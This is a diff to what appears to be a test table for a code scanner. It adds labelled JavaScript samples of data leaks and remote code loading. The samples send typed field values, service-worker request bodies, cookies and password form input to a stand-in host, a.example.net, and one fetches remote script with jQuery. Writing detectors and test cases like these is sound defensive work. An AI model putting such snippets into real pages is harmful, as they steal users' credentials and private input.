@@ -50,6 +50,26 @@ const leaksOfPages: readonly Row[] = [
     'const s = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (b) { fetch("https://a.example.net", { body: b }); s.call(this, b); };',
   ],
   ['a message to everybody', 'data_leak', "parent.postMessage({ c: document.cookie }, '*');"],
+  [
+    'what is typed into a field',
+    'data_leak',
+    "n.onblur = () => { const s = new WebSocket('wss://a.example.net'); s.send(n.value); };",
+  ],
+  [
+    'requests of a worker',
+    'data_leak',
+    "addEventListener('fetch', (e) => fetch('https://a.example.net', { body: e.request.clone().body }));",
+  ],
+  [
+    'a link in markup',
+    'data_leak',
+    "const j = document.cookie; h.insertAdjacentHTML('beforeend', '<link href=\"https://a.example.net/a?' + j + '\">');",
+  ],
+  [
+    'a form that asks for a password',
+    'data_leak',
+    'b.innerHTML = \'<form action="https://a.example.net/in"><input type="password"></form>\';',
+  ],
 ];
 
 const leaksOfNode: readonly Row[] = [
@@ -106,6 +126,16 @@ const code: readonly Row[] = [
   ],
   ['what a request asks for', 'eval', 'exports.run = (req) => require(req.query.m)[req.query.f](1);'],
   ['code near a message', 'eval', "addEventListener('message', (e) => window[e.data.f](e.data.a));"],
+  [
+    'a script that jQuery gets from another server',
+    'eval',
+    "$.ajax({ url: 'https://a.example.net/j', dataType: 'script' });",
+  ],
+  [
+    'a handler whose name others decide',
+    'eval',
+    "addEventListener('message', ({ data: { a, b } }) => el.setAttribute(a, b));",
+  ],
 ];
 
 const php: readonly Row[] = [
